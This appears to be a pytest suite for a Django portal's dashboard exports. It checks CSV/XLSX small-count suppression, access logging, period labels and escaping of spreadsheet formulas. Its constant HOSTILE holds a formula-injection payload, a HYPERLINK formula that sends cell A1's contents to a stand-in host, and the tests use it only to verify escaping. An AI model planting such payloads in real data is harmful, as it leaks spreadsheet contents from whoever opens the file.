"""Dashboard exports: the suppressed table as CSV and XLSX, formulas escaped, logged."""

import csv
import io

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from portal.dashboard_export import escape_formula
from portal.dashboards import HIDDEN_MARK, SMALL_MARK

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'


def export(client, panel, fmt, **params):
    # In English, the source language, so that the labels below hold whatever the
    # translations say.
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client.get(reverse("dashboard_export", kwargs={"panel": panel, "fmt": fmt}), params)


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def table_row(rows, label):
    return next(r for r in rows if r and r[0] == label)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1", HOSTILE])
def test_text_that_a_spreadsheet_would_run_is_escaped(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Skola A", "<5", "..", "–", "≥ 98 %", 12, 0.5])
def test_other_cells_are_left_alone(value):
    assert escape_formula(value) == value


def test_the_csv_export_is_suppressed_like_the_screen(world, client_for, file_concern):
    for _ in range(3):
        file_concern(world.teacher_a, world.pupil_a)
    response = export(client_for(world.manager_kungsholmen), "concerns_by_school", "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    header = table_row(rows, "Reported by")
    assert header[1:] == ["Girls", "Boys", "Other or unknown", "Total", "Previous period"]
    everything = table_row(rows, "All concerns received")
    assert everything[1] == SMALL_MARK  # 3 girls
    assert everything[4] == SMALL_MARK
    assert "3" not in everything
    assert any(SMALL_MARK in r[0] for r in rows if r)  # the legend


def test_the_xlsx_export_is_suppressed_like_the_screen(world, client_for, file_concern):
    for _ in range(3):
        file_concern(world.teacher_a, world.pupil_a)
    response = export(client_for(world.manager_kungsholmen), "concerns_by_school", "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(response)
    everything = table_row(rows, "All concerns received")
    assert everything[1] == SMALL_MARK
    assert everything[4] == SMALL_MARK
    assert 3 not in everything


def test_exports_keep_shown_counts_as_numbers_and_hidden_ones_as_marks(
    world, client_for, file_concern
):
    from tests.factories import StudentFactory

    boy = StudentFactory(gender="boy", school_unit=world.school_a, home_district=world.kungsholmen)
    for _ in range(9):
        file_concern(world.teacher_a, world.pupil_a)
    for _ in range(3):
        file_concern(world.teacher_a, boy)
    client = client_for(world.manager_kungsholmen)
    csv_all = table_row(
        csv_rows(export(client, "concerns_by_school", "csv")), "All concerns received"
    )
    xlsx_all = table_row(
        xlsx_rows(export(client, "concerns_by_school", "xlsx")), "All concerns received"
    )
    # 9 girls, 3 boys, 0 other, 12 in all: the boys are "<5", and since the total is
    # shown in every table, the girls are hidden so that 12 - 9 - 0 gives nothing away.
    assert csv_all[1:5] == [HIDDEN_MARK, SMALL_MARK, "0", "12"]
    assert xlsx_all[1:5] == [HIDDEN_MARK, SMALL_MARK, 0, 12]


def test_a_school_name_that_looks_like_a_formula_is_escaped_in_both_formats(
    world, client_for, file_concern
):
    world.school_a.name = HOSTILE
    world.school_a.save()
    for _ in range(5):
        file_concern(world.teacher_a, world.pupil_a)
    client = client_for(world.manager_kungsholmen)
    csv_labels = [r[0] for r in csv_rows(export(client, "concerns_by_school", "csv")) if r]
    assert "'" + HOSTILE in csv_labels
    assert HOSTILE not in csv_labels

    response = export(client, "concerns_by_school", "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    school = next(c for c in cells if HOSTILE in c.value)
    assert school.value == "'" + HOSTILE
    assert school.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)


def test_every_export_is_logged_in_the_access_log(world, client_for, monkeypatch):
    from portal import dashboard_views
    from portal.audit_models import AccessLog

    calls = []
    real = dashboard_views.log_access

    def spy(user, action, **details):
        calls.append((user, action, details))
        return real(user, action, **details)

    monkeypatch.setattr(dashboard_views, "log_access", spy)
    client = client_for(world.manager_kungsholmen)
    export(client, "decisions", "csv", period="year")
    export(client, "consents", "xlsx", district=world.kungsholmen.pk)
    assert [(c[0], c[1]) for c in calls] == [(world.manager_kungsholmen, "dashboard.export")] * 2
    assert [c[2]["panel"] for c in calls] == ["decisions", "consents"]
    assert [c[2]["format"] for c in calls] == ["csv", "xlsx"]
    assert calls[1][2]["filters"] == {"district": world.kungsholmen.pk}
    rows = AccessLog.objects.filter(action="dashboard.export", user=world.manager_kungsholmen)
    assert rows.count() == 2
    assert {row.kind for row in rows} == {AccessLog.Kind.EXPORT}


def test_the_export_states_the_period_it_counts(world, client_for):
    response = export(
        client_for(world.manager_kungsholmen),
        "protection_on_time",
        "csv",
        period="custom",
        start="2026-03-01",
        end="2026-03-31",
    )
    rows = csv_rows(response)
    assert ["Period", "2026-03-01 – 2026-03-31"] in rows
    assert ["Previous period", "2026-01-29 – 2026-02-28"] in rows
    assert "2026-03-01-2026-03-31.csv" in response["Content-Disposition"]


def test_an_unknown_panel_is_not_found(world, client_for):
    assert export(client_for(world.manager_kungsholmen), "pupils", "csv").status_code == 404


def test_the_export_of_a_share_and_a_median(world, client_for):
    response = export(client_for(world.manager_kungsholmen), "decisions", "xlsx")
    rows = xlsx_rows(response)
    assert table_row(rows, "Share leading to an utredning")[4] == "–"
    assert table_row(rows, "Median days from receipt to decision")[4] == HIDDEN_MARK
